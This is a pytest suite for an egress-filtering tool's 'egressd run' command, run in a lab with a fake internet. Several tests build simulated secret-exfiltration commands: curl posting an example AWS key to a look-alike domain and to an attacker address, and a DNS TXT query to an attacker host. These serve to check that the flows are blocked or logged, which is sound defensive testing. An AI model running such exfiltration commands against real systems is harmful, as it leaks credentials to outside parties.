"""Issue 6: `egressd run -- CMD` in the lab.

The calling namespace is the host-mode lab's `hst` namespace, with no egressd
of its own: it routes to the fake internet and its /etc/resolv.conf (the
bind-mounted /etc/netns/<hst>/resolv.conf) names the fake internet's dnsmasq,
which is where `egressd run` takes its upstream from. Every run uses
EGRESSD_RUN_NET=192.0.2.0, so CMD's namespace and the veth between the two
only ever carry documentation addresses.

  hst (calling namespace)                         CMD's namespace (per run)
  eth0 203.0.113.1/24 -> net (servers)            egr<N>c 192.0.2.(4N+2)/30
  egr<N>h 192.0.2.(4N+1)/30, table egressd_run<N>  resolv.conf -> 192.0.2.(4N+1)
"""
import fcntl
import json
import os
import pty
import re
import select
import shlex
import signal
import subprocess
import time

import pytest

import lab as L

AKIA = "AKIAIOSFODNN7EXAMPLE"
RUN_NET = "192.0.2.0"
SIGNAL_EXIT_LIMIT = 5  # s: egressd run must be gone this long after SIGTERM/SIGINT


# -- helpers -------------------------------------------------------------
def run_env(extra=None):
    env = dict(os.environ)
    for k in ("SUDO_UID", "SUDO_GID", "SUDO_USER", "SUDO_COMMAND", "EGRESSD_USER"):
        env.pop(k, None)
    env["EGRESSD_RUN_NET"] = RUN_NET
    env["EGRESSD_PRESET_DIR"] = os.path.join(L.REPO, "config", "presets")
    env.update(extra or {})
    return env


def sh(script):
    """CMD as a shell script: `sh -c SCRIPT`."""
    return ["sh", "-c", script]


def q(args):
    """A command line for sh, quoted."""
    return " ".join(shlex.quote(a) for a in args)


def curl_args(lab, url, *extra, max_time=5):
    return ["curl", "-sS", "--noproxy", "*", "--cacert", lab.ca["ca"], "--max-time",
            str(max_time)] + list(extra) + [url]


def egressd_run(lab, opts, cmd, timeout=12, env=None):
    """`egressd run OPTS -- CMD` in the calling namespace; CompletedProcess."""
    p = lab.ns_run(lab.hst, [L.egressd_bin(), "run"] + list(opts) + ["--"] + list(cmd),
                   timeout=timeout, env=run_env(env))
    lab.note_stderr("egressd run " + " ".join(opts), p.stderr)
    assert not getattr(p, "timed_out", False), "egressd run timed out:\n" + p.stderr
    return p


def spawn_run(lab, opts, cmd, tag, env=None):
    """`egressd run` in the background; (Popen, stdout path, stderr path)."""
    out = os.path.join(lab.dir, "run-%s.stdout" % tag)
    err = os.path.join(lab.dir, "run-%s.stderr" % tag)
    lab.stderr_files.append(err)
    proc = lab.spawn(lab.hst, [L.egressd_bin(), "run"] + list(opts) + ["--"] + list(cmd),
                     stdout=out, stderr=err, env=run_env(env))
    return proc, out, err


def read(path):
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except FileNotFoundError:
        return ""


def events(path):
    out = []
    for line in read(path).splitlines():
        try:
            out.append(json.loads(line))
        except ValueError:
            pass
    return out


def links(ns):
    return L.run(["ip", "-n", ns, "-o", "link", "show"]).stdout


def tables(ns):
    return L.run(["ip", "netns", "exec", ns, "nft", "list", "tables"]).stdout


def netns_inode(pid):
    try:
        return os.stat("/proc/%d/ns/net" % pid).st_ino
    except (FileNotFoundError, ProcessLookupError, PermissionError):
        return None


def pids_in_netns(inode):
    found = []
    for d in os.listdir("/proc"):
        if d.isdigit() and netns_inode(int(d)) == inode:
            found.append(int(d))
    return found


def slot_of(text):
    """The slot CMD saw: the N of its egr<N>c interface."""
    m = re.search(r"\begr(\d+)c\b", text)
    assert m, "no egr<N>c interface in CMD's output:\n" + text
    return int(m.group(1))


# What CMD prints about its namespace: the inode of its netns and its links.
SELF = "echo netns=$(stat -L -c %i /proc/self/ns/net); ip -o link show; "


def cmd_netns(text):
    m = re.search(r"^netns=(\d+)$", text, re.M)
    assert m, "CMD did not report its namespace:\n" + text
    return int(m.group(1))


def slot_left(n):
    """Slot n's directory is left behind: it exists and no live run holds its
    lock (slots are machine-wide: another run, of another lab on this machine,
    may own the slot by now)."""
    d = "/run/egressd/run/slot-%d" % n
    if not os.path.exists(d):
        return False
    try:
        fd = os.open(d + ".lock", os.O_RDWR)
    except FileNotFoundError:
        return True
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return False  # a live run holds the slot
    finally:
        os.close(fd)
    return os.path.exists(d)


def assert_torn_down(lab, child_netns=None, slots=()):
    """Nothing of any run is left: links, tables, processes, slot directories."""
    ln = links(lab.hst)
    assert not re.search(r"\begr\d+[hc]\b", ln), "veth left in the calling namespace:\n" + ln
    tb = tables(lab.hst)
    assert "egressd_run" not in tb, "run tables left:\n" + tb
    assert L.run(["ip", "netns", "pids", lab.hst]).stdout.split() == [], \
        "processes left in the calling namespace"
    if child_netns is not None:
        # A process killed just before egressd run exited may take a moment to go.
        deadline = time.monotonic() + 2
        left = pids_in_netns(child_netns)
        while left and time.monotonic() < deadline:
            time.sleep(0.05)
            left = pids_in_netns(child_netns)
        assert left == [], "processes left in CMD's namespace: %s" % [
            read("/proc/%d/cmdline" % p).replace("\0", " ") for p in left]
    for n in slots:
        assert not slot_left(n), "slot %d directory left" % n


def ran_ok(p):
    return "exit %s\nstdout:\n%s\nstderr:\n%s" % (p.returncode, p.stdout, p.stderr)


@pytest.fixture
def hst(hostlab):
    """The host-mode lab, without egressd in its hst namespace: the calling namespace."""
    assert hostlab.egressd is None
    assert "egressd" not in tables(hostlab.hst)
    return hostlab


# -- tests ---------------------------------------------------------------
def test_allowed_download_and_teardown(hst):
    log = os.path.join(hst.dir, "run.jsonl")
    script = SELF + q(curl_args(hst, "https://updates.example.com/file"))
    p = egressd_run(hst, ["--allow", "updates.example.com", "--log", log], sh(script))
    assert p.returncode == 0, ran_ok(p)
    assert p.stdout.endswith(L.site_body("updates")), ran_ok(p)
    slot = slot_of(p.stdout)
    allow = [e for e in events(log) if e.get("event") == "allow" and e.get("dport") == 443]
    assert allow and allow[0].get("name") == "updates.example.com", events(log)
    assert allow[0].get("rule") == "--allow:1", allow[0]
    assert allow[0].get("src") == "192.0.2.%d" % (4 * slot + 2), allow[0]
    assert "no flow denied" in p.stderr, p.stderr
    # The server saw the NATed address of the calling namespace.
    assert [x for x in hst.nginx_access() if x.startswith("updates.example.com")]
    assert_torn_down(hst, cmd_netns(p.stdout), [slot])
    hst.assert_attacker_got_nothing()


def test_denied_exfiltration_fails(hst):
    log = os.path.join(hst.dir, "run.jsonl")
    # The look-alike name is refused by DNS; the same name pinned to the
    # attacker's address is reset at the SYN.
    post = curl_args(hst, "https://updates.examp1e.com/upload", "-d", "key=" + AKIA)
    pinned = curl_args(hst, "https://updates.examp1e.com/upload", "-d", "key=" + AKIA,
                       "--resolve", "updates.examp1e.com:443:" + L.ATTACKER4)
    script = SELF + q(post) + "; a=$?; " + q(pinned) + \
        "; b=$?; echo rc=$a,$b; [ $a -eq 0 ] || [ $b -eq 0 ] && exit 0; exit $b"
    p = egressd_run(hst, ["--allow", "updates.example.com", "--log", log], sh(script))
    assert p.returncode != 0, ran_ok(p)
    assert re.search(r"^rc=6,7$", p.stdout, re.M), ran_ok(p)  # resolve / connect failure
    assert p.returncode == 7, ran_ok(p)
    evs = events(log)
    assert [e for e in evs if e.get("event") == "dns_deny"
            and e.get("qname", "").rstrip(".") == "updates.examp1e.com"], evs
    syn = [e for e in evs if e.get("event") == "deny" and e.get("dst") == L.ATTACKER4]
    assert syn and syn[0].get("reason") == "ip_not_allowed", evs
    # The summary on stderr names both.
    assert re.search(r"egressd run: \d+ denied", p.stderr), p.stderr
    assert "updates.examp1e.com" in p.stderr and L.ATTACKER4 in p.stderr, p.stderr
    hst.assert_attacker_got_nothing()
    assert_torn_down(hst, cmd_netns(p.stdout), [slot_of(p.stdout)])


def test_dns_through_egressd(hst):
    log = os.path.join(hst.dir, "run.jsonl")
    script = SELF + "cat /etc/resolv.conf; " \
        "echo A=$(dig +time=2 +tries=1 +short updates.example.com A); " \
        "dig +time=2 +tries=1 mirror.example.net A | grep -o 'status: [A-Z]*' | sed 's/^/M/'; " \
        "dig +time=2 +tries=1 @203.0.113.67 x.attacker.example TXT | grep -o 'status: [A-Z]*'"
    p = egressd_run(hst, ["--allow", "updates.example.com", "--log", log], sh(script))
    assert p.returncode == 0, ran_ok(p)
    slot = slot_of(p.stdout)
    # CMD's resolver is egressd's listener on the veth, not the calling namespace's.
    assert re.search(r"^nameserver 192\.0\.2\.%d$" % (4 * slot + 1), p.stdout, re.M), ran_ok(p)
    assert re.search(r"^A=203\.0\.113\.10$", p.stdout, re.M), ran_ok(p)
    assert re.search(r"^Mstatus: REFUSED$", p.stdout, re.M), ran_ok(p)
    # A query straight to another server is redirected to egressd too.
    assert re.search(r"^status: REFUSED$", p.stdout, re.M), ran_ok(p)
    evs = events(log)
    assert [e for e in evs if e.get("event") == "dns_allow"
            and e.get("qname", "").rstrip(".") == "updates.example.com"], evs
    assert [e for e in evs if e.get("event") == "dns_deny"
            and e.get("qname", "").rstrip(".") == "mirror.example.net"], evs
    # The allowed query reached the fake internet's dnsmasq; the denied ones did not.
    # lowercase: upstream queries leave in random case (0x20)
    upstream = "\n".join(x for x in read(os.path.join(hst.dir, "dnsmasq.log")).splitlines()
                         if "query[" in x).lower()
    assert re.search(r"query\[a\] updates\.example\.com from 203\.0\.113\.1\b", upstream), upstream
    assert "mirror.example.net" not in upstream and "attacker.example" not in upstream
    hst.assert_attacker_got_nothing()
    assert_torn_down(hst, cmd_netns(p.stdout), [slot])


@pytest.mark.parametrize("code", [0, 3, 77])
def test_exit_status_passed_through(hst, code):
    p = egressd_run(hst, [], ["sh", "-c", "exit %d" % code])
    assert p.returncode == code, ran_ok(p)
    assert "exit status %d" % code in p.stderr, p.stderr
    assert_torn_down(hst)


def test_command_not_found(hst):
    p = egressd_run(hst, [], ["/nonexistent/egressd-run-test"])
    assert p.returncode == 127, ran_ok(p)
    assert_torn_down(hst)


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_signal_tears_everything_down(hst, sig):
    marker = os.path.join(hst.dir, "running")
    # CMD leaves a grandchild behind it (not exec'd): it must not outlive the run.
    script = SELF + "sleep 60 & echo $! > %s.child; touch %s; wait" % (marker, marker)
    proc, out, err = spawn_run(hst, [], sh(script), "sig")
    L.wait_for(lambda: proc.poll() is not None or os.path.exists(marker), 8,
               "CMD to start inside egressd run")
    assert proc.poll() is None, read(err)
    slot = slot_of(read(out))
    child_ns = cmd_netns(read(out))
    assert re.search(r"\begr%dh\b" % slot, links(hst.hst))
    assert "egressd_run%d" % slot in tables(hst.hst)
    grandchild = int(read(marker + ".child"))
    t0 = time.monotonic()
    proc.send_signal(sig)
    try:
        rc = proc.wait(SIGNAL_EXIT_LIMIT)
    except subprocess.TimeoutExpired:
        pytest.fail("egressd run still running %ss after signal %d:\n%s"
                    % (SIGNAL_EXIT_LIMIT, sig, read(err)))
    assert rc == 128 + sig, "exit %s\n%s" % (rc, read(err))
    assert time.monotonic() - t0 < SIGNAL_EXIT_LIMIT
    assert not os.path.exists("/proc/%d" % grandchild) or \
        netns_inode(grandchild) != child_ns, "CMD's background child survived the run"
    assert_torn_down(hst, child_ns, [slot])


def test_two_concurrent_runs(hst):
    """Two runs at once: distinct slots, both work, both cleaned up."""
    go = os.path.join(hst.dir, "go")
    runs = []
    for tag in ("a", "b"):
        marker = os.path.join(hst.dir, "up-" + tag)
        # Each waits (bounded) until both are up, then downloads.
        script = SELF + "touch %s; i=0; while [ ! -e %s ] && [ $i -lt 80 ]; do sleep 0.1; " \
            "i=$((i+1)); done; %s" % (marker, go, q(
                curl_args(hst, "https://updates.example.com/file")))
        runs.append(spawn_run(hst, ["--allow", "updates.example.com"], sh(script), tag)
                    + (marker,))
    L.wait_for(lambda: all(os.path.exists(r[3]) or r[0].poll() is not None for r in runs), 8,
               "both runs to start")
    slots = [slot_of(read(r[1])) for r in runs]
    assert slots[0] != slots[1], slots
    ln, tb = links(hst.hst), tables(hst.hst)
    for n in slots:
        assert re.search(r"\begr%dh\b" % n, ln), ln
        assert "egressd_run%d" % n in tb, tb
    with open(go, "w"):
        pass
    for proc, out, err, _ in runs:
        try:
            rc = proc.wait(10)
        except subprocess.TimeoutExpired:
            pytest.fail("a concurrent run did not finish:\n" + read(err))
        assert rc == 0, "exit %s\n%s\n%s" % (rc, read(out), read(err))
        assert read(out).endswith(L.site_body("updates")), read(out)
    for _, out, _, _ in runs:
        assert_torn_down(hst, cmd_netns(read(out)), slots)


def test_audit_lets_denied_flow_through_and_reports_it(hst):
    log = os.path.join(hst.dir, "run.jsonl")
    script = q(["curl", "-sS", "--noproxy", "*", "--max-time", "5", "-d", "key=" + AKIA,
                       "http://updates.examp1e.com/upload"])
    p = egressd_run(hst, ["--audit", "--allow", "updates.example.com", "--log", log],
                    sh(script))
    assert p.returncode == 0, ran_ok(p)
    # The attacker got the request: audit denies nothing...
    rec = hst.attacker_records()
    assert rec["total_bytes"] > 0 and AKIA in "".join(c["head"] for c in rec["connections"]), rec
    # ...but says what it would have denied.
    evs = [e for e in events(log) if e.get("event") in ("deny", "dns_deny")]
    assert evs and all(e.get("enforced") is False for e in evs if e.get("event") == "deny"), evs
    assert "updates.examp1e.com" in p.stderr, p.stderr
    assert re.search(r"\b(audit|would)\b", p.stderr), p.stderr
    assert_torn_down(hst)


@pytest.mark.parametrize("bad, msg", [
    (["--allow", "updates.example.com", "--allow", "updates.example.com:44x"],
     r"--allow:2: .*44x"),
    (["--allow-file", "@BADFILE@"], r"bad\.list:3: .*99999"),
    (["--allow", "updates.example.com", "--allow", "*.blob.core.windows.net"],
     r"--allow:2: wildcard \"\*\.blob\.core\.windows\.net\" covers the multi-tenant"),
], ids=["allow", "allow-file", "shared-suffix"])
def test_bad_allow_entry_creates_nothing(hst, bad, msg):
    bad_file = os.path.join(hst.dir, "bad.list")
    with open(bad_file, "w") as f:
        f.write("# ok so far\nupdates.example.com\nmirror.example.net:99999\n")
    marker = os.path.join(hst.dir, "ran")
    opts = [bad_file if a == "@BADFILE@" else a for a in bad]
    before = os.listdir("/run/egressd/run") if os.path.isdir("/run/egressd/run") else []
    p = egressd_run(hst, opts, ["touch", marker])
    assert p.returncode == 2, ran_ok(p)
    assert re.search(msg, p.stderr), p.stderr
    assert not os.path.exists(marker), "CMD ran despite the bad allowlist"
    assert_torn_down(hst)
    after = os.listdir("/run/egressd/run") if os.path.isdir("/run/egressd/run") else []
    assert not [x for x in after if x.startswith("slot-") and not x.endswith(".lock")
                and x not in before], after


def test_runs_as_invoking_user_under_sudo(hst):
    sudo = {"SUDO_UID": "65534", "SUDO_GID": "65534", "SUDO_USER": "nobody"}
    p = egressd_run(hst, [], sh("id -u; id -g; " + SELF), env=sudo)
    assert p.returncode == 0, ran_ok(p)
    assert p.stdout.splitlines()[:2] == ["65534", "65534"], ran_ok(p)
    assert_torn_down(hst, cmd_netns(p.stdout), [slot_of(p.stdout)])


def test_no_sudo_stays_root(hst):
    p = egressd_run(hst, [], ["id", "-u"])
    assert p.returncode == 0 and p.stdout.strip() == "0", ran_ok(p)


def test_ctrl_c_on_terminal_leaves_filter_for_cleanup(hst):
    """Ctrl-C on a terminal: CMD gets one SIGINT, egressd keeps filtering while CMD cleans up.

    The run is the foreground process group of a pseudo-terminal; ^C makes the
    tty driver signal that group. CMD traps it, downloads once more (allowed)
    and exits 5; its background child (SIGINT ignored, as sh does) is killed.
    """
    marker = os.path.join(hst.dir, "running")
    trap = q(curl_args(hst, "https://updates.example.com/file")) + "; echo traps=$n; exit 5"
    script = SELF + "n=0; trap %s INT; sleep 60 & touch %s; wait; " \
        "echo not-interrupted" % (shlex.quote("n=$((n+1)); " + trap), marker)
    args = ["ip", "netns", "exec", hst.hst, L.egressd_bin(), "run", "--allow",
            "updates.example.com", "--"] + sh(script)
    pid, fd = pty.fork()
    if pid == 0:  # the child: session leader on the pty's slave side
        try:
            os.execvpe(args[0], args, run_env())
        finally:
            os._exit(127)
    out = b""
    status = None
    try:
        deadline = time.monotonic() + 10
        sent = False
        while time.monotonic() < deadline:
            try:
                if select.select([fd], [], [], 0.05)[0]:
                    out += os.read(fd, 65536)
            except OSError:  # EIO: the slave side is closed, everyone exited
                pass
            if not sent and os.path.exists(marker):
                os.write(fd, b"\x03")  # ^C: VINTR of a fresh pty
                sent = True
            w, st = os.waitpid(pid, os.WNOHANG)
            if w == pid:
                status = st
                break
        text = out.decode(errors="replace").replace("\r\n", "\n")
        hst.note_stderr("egressd run (pty)", text)
        assert sent, "CMD never started:\n" + text
        assert status is not None, "egressd run did not exit after ^C:\n" + text
    finally:
        if status is None:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        os.close(fd)
    assert os.WIFEXITED(status) and os.WEXITSTATUS(status) == 5, (status, text)
    assert L.site_body("updates") in text, text
    assert "traps=1" in text, "CMD got SIGINT more than once (or never):\n" + text
    assert_torn_down(hst, cmd_netns(text), [slot_of(text)])


@pytest.mark.parametrize("second", [False, True], ids=["grace-expires", "second-signal"])
def test_cmd_ignoring_sigterm_is_killed(hst, second):
    """A CMD that ignores SIGTERM gets SIGKILL after the grace (5 s), or at a second signal."""
    marker = os.path.join(hst.dir, "running")
    script = SELF + "trap '' TERM; touch %s; i=0; while [ $i -lt 300 ]; do sleep 0.1; " \
        "i=$((i+1)); done" % marker
    proc, out, err = spawn_run(hst, [], sh(script), "ignore")
    L.wait_for(lambda: proc.poll() is not None or os.path.exists(marker), 8,
               "CMD to start inside egressd run")
    child_ns = cmd_netns(read(out))
    t0 = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    if second:
        # Not gone at once (it ignores SIGTERM)...
        with pytest.raises(subprocess.TimeoutExpired):
            proc.wait(0.5)
        proc.send_signal(signal.SIGTERM)
    try:
        rc = proc.wait(SIGNAL_EXIT_LIMIT + 3)
    except subprocess.TimeoutExpired:
        pytest.fail("egressd run still running after SIGTERM:\n" + read(err))
    took = time.monotonic() - t0
    assert rc == 128 + signal.SIGKILL, "exit %s\n%s" % (rc, read(err))
    if second:
        assert took < 2, took
    else:
        assert 4.5 < took < SIGNAL_EXIT_LIMIT + 2, took
    assert_torn_down(hst, child_ns, [slot_of(read(out))])


# -- what egressd run changes in the calling namespace is undone (issue 10) --
def ip_forward(ns):
    return L.run(["ip", "netns", "exec", ns, "cat", "/proc/sys/net/ipv4/ip_forward"]).stdout.strip()


@pytest.fixture
def hst_noforward(hst):
    """hst with forwarding off (the lab turns it on), back on afterwards."""
    hst.sysctl(hst.hst, "net.ipv4.ip_forward=0")
    assert ip_forward(hst.hst) == "0"
    yield hst
    hst.sysctl(hst.hst, "net.ipv4.ip_forward=1")


@pytest.mark.parametrize("before", ["0", "1"])
def test_ip_forward_restored_after_run(hst, before):
    """On while the run needs it, back to the value before when it ends."""
    hst.sysctl(hst.hst, "net.ipv4.ip_forward=" + before)
    try:
        marker = os.path.join(hst.dir, "running")
        go = os.path.join(hst.dir, "go")
        script = SELF + "touch %s; i=0; while [ ! -e %s ] && [ $i -lt 80 ]; do sleep 0.1; " \
            "i=$((i+1)); done; %s" % (marker, go, q(
                curl_args(hst, "https://updates.example.com/file")))
        proc, out, err = spawn_run(hst, ["--allow", "updates.example.com"], sh(script), "fwd")
        L.wait_for(lambda: proc.poll() is not None or os.path.exists(marker), 8,
                   "CMD to start inside egressd run")
        assert proc.poll() is None, read(err)
        assert ip_forward(hst.hst) == "1", "forwarding off while the run needs it"
        with open(go, "w"):
            pass
        rc = proc.wait(10)
        assert rc == 0, "exit %s\n%s\n%s" % (rc, read(out), read(err))
        assert read(out).endswith(L.site_body("updates")), read(out)
        assert ip_forward(hst.hst) == before, "ip_forward not restored"
        assert_torn_down(hst, cmd_netns(read(out)))
    finally:
        hst.sysctl(hst.hst, "net.ipv4.ip_forward=1")


def test_sigkilled_cmd_leaves_nothing(hst_noforward):
    """CMD killed by SIGKILL: no egr* link, no run table, ip_forward as it was."""
    hst = hst_noforward
    p = egressd_run(hst, [], sh(SELF + "kill -9 $$"))
    assert p.returncode == 128 + signal.SIGKILL, ran_ok(p)
    assert ip_forward(hst.hst) == "0", "ip_forward not restored after a SIGKILL'd CMD"
    assert_torn_down(hst, cmd_netns(p.stdout))


def test_failing_cmd_leaves_nothing(hst_noforward):
    """CMD that fails, and one that is not there: the same."""
    hst = hst_noforward
    p = egressd_run(hst, [], sh(SELF + "exit 3"))
    assert p.returncode == 3, ran_ok(p)
    assert ip_forward(hst.hst) == "0"
    assert_torn_down(hst, cmd_netns(p.stdout))
    p = egressd_run(hst, [], ["/nonexistent/egressd-run-test"])
    assert p.returncode == 127, ran_ok(p)
    assert ip_forward(hst.hst) == "0"
    assert_torn_down(hst)


def test_ip_forward_stays_on_while_another_run_needs_it(hst_noforward):
    """Two runs overlap: the first to end leaves forwarding on, the last restores it."""
    hst = hst_noforward
    runs = []
    for tag in ("a", "b"):
        marker = os.path.join(hst.dir, "up-" + tag)
        go = os.path.join(hst.dir, "go-" + tag)
        script = SELF + "touch %s; i=0; while [ ! -e %s ] && [ $i -lt 100 ]; do " \
            "sleep 0.1; i=$((i+1)); done; %s" % (marker, go, q(
                curl_args(hst, "https://updates.example.com/file")))
        proc, out, err = spawn_run(hst, ["--allow", "updates.example.com"], sh(script), tag)
        runs.append((proc, out, err, marker, go))
    L.wait_for(lambda: all(os.path.exists(r[3]) or r[0].poll() is not None for r in runs), 8,
               "both runs to start")
    for proc, out, err, _, go in runs:
        assert proc.poll() is None, read(err)
    assert ip_forward(hst.hst) == "1"
    # a ends first: b still forwards (and still downloads)
    proc, out, err, _, go = runs[0]
    with open(go, "w"):
        pass
    assert proc.wait(10) == 0, read(err)
    assert ip_forward(hst.hst) == "1", "the first run to end turned forwarding off"
    proc, out, err, _, go = runs[1]
    with open(go, "w"):
        pass
    assert proc.wait(10) == 0, "exit %s\n%s\n%s" % (proc.returncode, read(out), read(err))
    assert read(out).endswith(L.site_body("updates")), read(out)
    assert ip_forward(hst.hst) == "0", "the last run did not restore ip_forward"
    for _, out, _, _, _ in runs:
        assert_torn_down(hst, cmd_netns(read(out)))


def test_signalled_run_restores_ip_forward(hst_noforward):
    """SIGTERM to egressd run (CMD gets it and dies): ip_forward back to 0, nothing left."""
    hst = hst_noforward
    marker = os.path.join(hst.dir, "running")
    script = SELF + "touch %s; sleep 60" % marker
    proc, out, err = spawn_run(hst, [], sh(script), "fwdsig")
    L.wait_for(lambda: proc.poll() is not None or os.path.exists(marker), 8,
               "CMD to start inside egressd run")
    assert proc.poll() is None, read(err)
    assert ip_forward(hst.hst) == "1"
    proc.send_signal(signal.SIGTERM)
    rc = proc.wait(SIGNAL_EXIT_LIMIT + 2)
    assert rc == 128 + signal.SIGTERM, "exit %s\n%s" % (rc, read(err))
    assert ip_forward(hst.hst) == "0", "ip_forward not restored after SIGTERM"
    assert_torn_down(hst, cmd_netns(read(out)))
